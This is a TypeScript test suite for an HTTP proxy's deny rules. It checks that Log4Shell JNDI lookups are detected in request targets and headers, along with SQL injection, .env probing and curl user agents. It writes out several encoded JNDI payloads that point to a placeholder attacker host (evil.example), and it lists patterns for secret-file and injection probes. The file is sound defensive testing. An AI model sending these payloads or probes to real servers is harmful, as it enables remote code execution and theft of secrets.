/** What deny rules find and where they look; Log4j attacks as they are seen, and texts like them. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { Head } from '../../../proxy/http1/head.ts';
import { scanRequestHead } from '../../../proxy/http1/head-scanner.ts';
import { checkDenyRule, type DenyRule, DenyRules } from '../../../proxy/routing/deny-rules.ts';
import { holdsJndiLookup } from '../../../proxy/routing/log4shell.ts';

function findIn(rules: readonly DenyRule[], target: string, fields = ''): string | undefined {
  const head = new Head();
  const bytes = Buffer.from(`GET ${target} HTTP/1.1\r\nHost: a\r\n${fields}\r\n`, 'utf8');
  assert.equal(scanRequestHead(head, bytes, 0, bytes.length), 'complete');
  return new DenyRules(rules).find(head);
}

const folder = path.resolve(import.meta.dirname, '../../../../test/fixtures/log4shell');

function linesOf(file: string): string[] {
  return readFileSync(path.join(folder, file), 'utf8').trimEnd().split('\n');
}

const log4shell: readonly DenyRule[] = [{ name: 'log4shell' }];

describe('log4shell', () => {
  const attacks = [...linesOf('attacks.txt'), '${'.repeat(60) + '}'.repeat(60)];
  for (const attack of attacks) {
    it(`finds ${attack.slice(0, 90)}`, () => {
      assert.equal(holdsJndiLookup(attack), true);
      assert.equal(findIn(log4shell, '/', `User-Agent: ${attack}\r\n`), 'log4shell');
      const once = encodeURIComponent(attack);
      assert.equal(findIn(log4shell, `/?q=${once}`), 'log4shell');
      assert.equal(findIn(log4shell, `/${encodeURIComponent(once)}`), 'log4shell');
      assert.equal(findIn(log4shell, '/', `Referer: http://a/?${once}\r\n`), 'log4shell');
    });
  }

  it('finds single characters that are encoded', () => {
    assert.equal(findIn(log4shell, '/?q=%24%7Bjndi:ldap://evil.example/a}'), 'log4shell');
    assert.equal(findIn(log4shell, '/?q=$%7bj%6edi:ldap://evil.example/a%7d'), 'log4shell');
    assert.equal(findIn(log4shell, '/?q=%2524%257Bjndi:x%257D'), 'log4shell');
  });

  const harmless = [...linesOf('harmless.txt'), ''];
  for (const text of harmless) {
    it(`spares ${text}`, () => {
      assert.equal(holdsJndiLookup(text), false);
      assert.equal(findIn(log4shell, `/?q=${encodeURIComponent(text)}`), undefined);
      assert.equal(findIn(log4shell, '/', `User-Agent: ${text}\r\n`), undefined);
    });
  }

  it('has an answer for any text, in time', () => {
    const part = fc.constantFrom(
      '${',
      '}',
      '$',
      ':-',
      ':',
      'jndi',
      'lower',
      "date:'",
      'base64:',
      'a',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 60 }), parts => {
        assert.equal(typeof holdsJndiLookup(parts.join('')), 'boolean');
      }),
      { numRuns: 1500 },
    );
    const long = ['${'.repeat(16_000), '${a:'.repeat(40) + ':-'.repeat(16_000), '$'.repeat(32_000)];
    const start = performance.now();
    for (const text of long) holdsJndiLookup(text);
    assert.ok(performance.now() - start < 2000);
  });
});

describe('DenyRules', () => {
  const rules: readonly DenyRule[] = [
    { name: 'sql', pattern: 'union\\s+select' },
    { name: 'dotenv', pattern: '/\\.env$', in: 'target' },
    { name: 'curl', pattern: '^curl/', in: 'fields' },
    { name: 'log4shell' },
  ];

  it('search the target, raw and decoded up to twice, in any case', () => {
    assert.equal(findIn(rules, '/?q=1+union%20select'), 'sql');
    assert.equal(findIn(rules, '/?q=UNION%2520SELECT'), 'sql');
    assert.equal(findIn(rules, '/?q=union%252520select'), undefined);
    assert.equal(findIn(rules, '/x/%2eenv'), 'dotenv');
    assert.equal(findIn(rules, '/x/.environment'), undefined);
  });

  it('search each field value by itself, from its beginning to its end', () => {
    assert.equal(findIn(rules, '/', 'User-Agent: curl/8\r\n'), 'curl');
    assert.equal(findIn(rules, '/', 'User-Agent: not curl/8\r\n'), undefined);
    assert.equal(findIn(rules, '/', 'A: union\r\nB: select\r\n'), undefined);
    assert.equal(findIn(rules, '/', 'Cookie: x=union%20select\r\n'), 'sql');
  });

  it('look only where they are told to', () => {
    assert.equal(findIn(rules, '/curl/'), undefined);
    assert.equal(findIn(rules, '/', 'Referer: http://a/.env\r\n'), undefined);
  });

  it('read bytes as UTF-8, encoded or not', () => {
    const german: readonly DenyRule[] = [{ name: 'umlaut', pattern: 'böse' }];
    assert.equal(findIn(german, '/?q=b%C3%B6se'), 'umlaut');
    assert.equal(findIn(german, '/', 'X: BÖSE\r\n'), 'umlaut');
    assert.equal(findIn(german, '/?q=b%F6se'), undefined);
  });

  it('never throw, whatever the request holds', () => {
    const text = fc.array(fc.constantFrom('%', '%2', '%25', '%zz', '%00', '${', '}', 'é', 'a'));
    fc.assert(
      fc.property(text, parts => {
        const joined = parts.join('');
        findIn(rules, `/${joined.replace('é', '%e9')}`.replaceAll('é', ''), `X: ${joined}\r\n`);
      }),
      { numRuns: 500 },
    );
  });
});

describe('checkDenyRule', () => {
  it('says what is wrong', () => {
    const slow = checkDenyRule({ name: 'x', pattern: 'a(' });
    assert.ok(!slow.ok);
    assert.match(slow.error, /wrong at character 2/);
    const unknown = checkDenyRule({ name: 'log4shel' });
    assert.ok(!unknown.ok);
    assert.match(unknown.error, /no pattern.*did you mean "log4shell"/);
    assert.ok(checkDenyRule({ name: 'log4shell' }).ok);
  });
});
